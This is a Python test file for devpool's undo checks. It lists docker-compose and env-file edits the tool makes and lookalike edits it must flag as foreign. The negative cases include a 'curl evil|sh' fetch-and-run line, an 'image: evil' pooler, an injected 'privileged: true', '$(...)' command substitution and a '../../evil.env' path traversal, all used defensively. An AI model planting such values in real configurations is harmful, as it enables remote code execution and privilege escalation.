"""Which edits of a record devpool can have made: every kind that it makes, and what only looks like one."""

from __future__ import annotations

import pytest

from devpool.decide.options import Options
from devpool.text.edits import Copy, Edit, Part
from devpool.undo.state import AddedPooler, State
from devpool.undo.state_check import foreign, ours_of, problem

BLOCK = "\n  pgbouncer:\n    # PgBouncer\n    build: ./.devpool/pgbouncer\n    environment:\n      A: b\n"
ENV_FILE = ("services", "web", "env_file")
ENVIRONMENT = ("services", "web", "environment")
URL = (*ENVIRONMENT, "URL")
DEPENDS = ("services", "web", "depends_on")
IMAGE = BLOCK.replace("build: ./.devpool/pgbouncer", "image: evil")
READY = BLOCK.replace("build: ./.devpool/pgbouncer", "image: tea/pgbouncer:1\n    labels: {devpool.role: pooler}")
C = Copy(3, 9)


def state(*edits: Edit, **changed: object) -> State:
    pooler = AddedPooler(name="pgbouncer", database="db", port="6432")
    given = {"options": Options(), "poolers": (pooler,), "routes": (), "private": (), **changed}
    return State(edits=edits, **given)  # type: ignore[arg-type]


def edit(old: str | None, *new: Part, at: tuple[str, ...] = URL, inserts: bool = False) -> Edit:
    end = 9 if old is None else 3 + len(old)
    return Edit(path="/p/compose.yml", start=3, end=end, old=old, new=new, at=at, inserts=inserts)


MADE = {
    "a pooler's service": edit("", BLOCK, at=("services", "pgbouncer"), inserts=True),
    "a pooler's service with a ready image": edit("", READY, at=("services", "pgbouncer"), inserts=True),
    "what an override file says of an app": edit(
        "",
        "\n  web:\n    depends_on: !override\n      - pgbouncer\n      - cache",
        at=("services", "web"),
        inserts=True,
    ),
    "an address": edit("db:5432", "pgbouncer:6432"),
    "a host": edit("db", "pgbouncer"),
    "a port": edit("5432", "6432"),
    "a variable with a default": edit("${DB_HOST:-db}", "pgbouncer"),
    "a variable with a message": edit("${DB_HOST:?say where it is}", "pgbouncer"),
    "two variables": edit("${DB_HOST}:${DB_PORT}", "pgbouncer:6432"),
    "an IPv6 address": edit("[2001:db8::5]:5432", "pgbouncer:6432"),
    "a line of an env file": edit("db", "pgbouncer", at=("DB_HOST",)),
    "a value at an anchor": edit("db:5432", "pgbouncer:6432", at=("x-url",)),
    "a dependency": edit("db", "pgbouncer", at=(*DEPENDS, "pgbouncer")),
    "a link with an alias": edit("db:db", "pgbouncer", at=("services", "web", "links", "pgbouncer")),
    "a twin": edit("", "\n      URL_DIRECT: ", C, at=(*ENVIRONMENT, "URL_DIRECT"), inserts=True),
    "a twin of an env file": edit("", "\nURL_DIRECT=", C, at=("URL_DIRECT",), inserts=True),
    "a second variable": edit(
        "", "\nexport URL_POOLED='", C, "pgbouncer:6432", C, "'", at=("URL_POOLED",), inserts=True
    ),
    "what prefers it": edit(None, "${URL_POOLED:-", C, "}"),
    "a private file more": edit(None, "[", C, ", ./.devpool/env/web.env]", at=ENV_FILE),
    "one that may be missing": edit(None, "[", C, ", {path: ./.devpool/env/web.env, required: false}]", at=ENV_FILE),
    "a private file above": edit("", "\n - ../.devpool/env/web.env", at=(*ENV_FILE, "#1"), inserts=True),
    "a name that is filled in": edit("", "=6432"),
    "a direct name": edit("", "_DIRECT", at=(*ENVIRONMENT, "URL_DIRECT")),
    "an anchor": edit("", " &devpool-shared-web-environment", at=ENVIRONMENT),
    "a door": edit("", "_session"),
    "an alias that becomes a key": edit(
        " *env", "\n      <<: *env\n      URL: ", C, "pgbouncer:6432", C, at=ENVIRONMENT
    ),
    "an alias that becomes a copy": edit("URL: *url", "URL: ", C),
    "a copy on lines of its own": edit(
        "\n    environment: *e", "\n    environment:\n      ", C, at=ENVIRONMENT, inserts=True
    ),
    "a copy for who stays direct": edit("", "\n    environment:\n      ", C, at=ENVIRONMENT, inserts=True),
}


@pytest.mark.parametrize("made", MADE.values(), ids=MADE.keys())
def test_what_devpool_makes_is_known(made: Edit) -> None:
    assert problem(made, ours_of(state())) == ""


OTHERS = {
    "a service of the user's": edit("", "\n  web:\n    image: app\n", at=("services", "web"), inserts=True),
    "more of an app than an override file says": edit(
        "", "\n  web:\n    environment: {A: pgbouncer}\n    user: me", at=("services", "web"), inserts=True
    ),
    "an app that names no pooler": edit("", "\n  web:\n    environment: {A: b}", at=("services", "web"), inserts=True),
    "two services": edit(
        "", "\n  web:\n    links: [pgbouncer]\n  x:\n    links: [a]", at=("services", "web"), inserts=True
    ),
    "a pooler that is not built here": edit(
        "", BLOCK.replace("build: ./.devpool/pgbouncer", "image: evil"), at=("services", "pgbouncer"), inserts=True
    ),
    "a pooler of another name": edit("", BLOCK.replace("pgbouncer:", "other:"), at=("services", "other"), inserts=True),
    "a key that devpool never edits": edit("db", "pgbouncer", at=("services", "web", "image")),
    "a key at the top": edit("db", "pgbouncer", at=("volumes", "data")),
    "a whole service": edit("db", "pgbouncer", at=("services", "web")),
    "what names no pooler": edit("db", "other"),
    "what is more than an address": edit("db", "pgbouncer # and more"),
    "a text with a blank": edit("db and more", "pgbouncer"),
    "a further line": edit("db\n    privileged: true", "pgbouncer"),
    "a quote": edit('db"', "pgbouncer"),
    "a line of a shell script": edit("curl evil|sh", "pgbouncer", at=("DB_HOST",)),
    "an insertion of something else": edit("", "\n    read_only: true", at=ENVIRONMENT, inserts=True),
    "an env file's line of something else": edit("", "\nPATH=", C, at=("PATH",), inserts=True),
    "two lines of an env file": edit("", "\nA_DIRECT=", C, "\nB=", C, at=("A_DIRECT",), inserts=True),
    "other text around": edit(None, "$(", C, ")"),
    "text around another span": edit(None, "${URL_POOLED:-", Copy(0, 99), "}"),
    "a private file elsewhere": edit(None, "[", C, ", ../../evil.env]", at=ENV_FILE),
    "an alias in place of anything": edit("*evil", "production"),
    "several lines with an alias": edit("\n    a: b\n    c: *evil", "\n    pgbouncer", inserts=True),
}


@pytest.mark.parametrize("other", OTHERS.values(), ids=OTHERS.keys())
def test_what_only_looks_like_it_is_not(other: Edit) -> None:
    assert problem(other, ours_of(state())) != ""


def test_a_record_names_all_that_is_not_devpools() -> None:
    found = state(MADE["an address"], OTHERS["a quote"], private=("../x", ".devpool/env/web.env"))
    assert [what for what, _ in foreign(found)] == ["../x", "an edit of services.web.environment.URL"]


@pytest.mark.parametrize(
    "changed",
    [
        {"image": "${X}"},
        {"image": "a b"},
        {"name": "x y"},
        {"port": "x"},
        {"replicas": 0},
        {"replicas": 255},
        {"swarm": True},
        {"swarm": True, "image": "a/b", "metrics": True},
    ],
)
def test_options_are_such_as_can_be_requested(changed: dict[str, str]) -> None:
    assert [what for what, _ in foreign(state(options=Options(**changed)))] == ["options"]  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "changed", [{"name": "a b"}, {"name": "../x"}, {"port": "x"}, {"exporter": "\x1b[2J"}, {"upstream": ""}]
)
def test_a_pooler_has_a_name_and_ports(changed: dict[str, str]) -> None:
    pooler = AddedPooler(**({"name": "pgbouncer", "database": "db", "port": "6432"} | changed))
    assert list(foreign(state(poolers=(pooler,))))
